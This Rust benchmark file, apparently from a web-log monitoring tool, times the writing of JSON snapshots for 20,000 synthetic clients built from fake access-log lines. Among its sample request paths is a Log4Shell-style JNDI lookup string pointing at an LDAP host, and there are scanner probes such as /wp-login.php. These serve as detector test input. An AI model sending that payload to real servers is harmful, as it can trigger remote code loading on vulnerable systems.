//! The `--once --json` snapshot (issue 13 item 2): the `ip` lines of a
//! table of 20 000 clients (~5 % IPv6), as the realistic benchmark log
//! leaves it: real-length user agents, long paths with query strings, a
//! few probes (suspicious rows carry reasons and their ages). Throughput
//! is the JSON bytes written per iteration.
use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};

use nethergaze::detect::{DetectSettings, Detector};
use nethergaze::parse::access::AccessParser;
use nethergaze::table::IpTable;
use nethergaze::view::wire::write_ip_lines;

const CLIENTS: usize = 20_000;
const END: i64 = 1_795_628_512;

const AGENTS: [&str; 6] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "curl/8.5.0",
    "Mozilla/5.0 zgrab/0.x",
];
const PATHS: [&str; 6] = [
    "/",
    "/static/js/app.3f9a1c7be2.chunk.js",
    "/products/category/garden-tools?page=3&sort=price_asc&utm_source=newsletter",
    "/api/v2/search?q=n%C3%A9thergaze&lang=fr&limit=50",
    "/wp-login.php",
    "/index.php?s=${jndi:ldap://198.51.100.7:1389/a}",
];

fn client(n: usize) -> String {
    if n.is_multiple_of(20) {
        format!("2001:db8:{:x}::{:x}", n / 200, 1 + n % 200)
    } else {
        format!(
            "{}.{}.{}.{}",
            11 + n / 60_000,
            n / 250 % 240,
            n % 250 + 1,
            7
        )
    }
}

fn table(detector: &mut Detector) -> IpTable {
    let parser = AccessParser::new("combined", Vec::new()).expect("valid format");
    let mut table = IpTable::new(50_000, true);
    let mut scratch = Vec::new();
    for n in 0..CLIENTS {
        let ip = client(n);
        for k in 0..(1 + n % 3) {
            let line = format!(
                "{ip} - - [25/Nov/2026:17:41:{:02} +0000] \"GET {} HTTP/1.1\" {} {} \"https://example.com/\" \"{}\"",
                (n + k) % 60,
                PATHS[(n + k) % PATHS.len()],
                [200, 304, 404, 500][n % 4],
                100 + n % 9000,
                AGENTS[n % AGENTS.len()],
            );
            if let Ok((hit, _)) = parser.parse(line.as_bytes(), &mut scratch) {
                if let Some((applied, request)) = table.apply_access(&hit, END) {
                    detector.check_request(&mut table, applied.row, &request, &hit);
                }
            }
        }
    }
    assert_eq!(table.len(), CLIENTS);
    table
}

fn snapshot(c: &mut Criterion) {
    let mut detector = Detector::new(DetectSettings::default()).expect("default patterns");
    let table = table(&mut detector);
    let mut out = Vec::new();
    write_ip_lines(&mut out, &table, &detector, END).expect("writes");
    println!("{} ip lines, {} bytes", CLIENTS, out.len());
    let mut group = c.benchmark_group("json");
    group.throughput(Throughput::Bytes(out.len() as u64));
    group.bench_function("ip_lines_20k", |b| {
        b.iter(|| {
            out.clear();
            write_ip_lines(&mut out, black_box(&table), &detector, END).expect("writes");
            black_box(out.len())
        })
    });
    group.finish();
}

criterion_group!(benches, snapshot);
criterion_main!(benches);
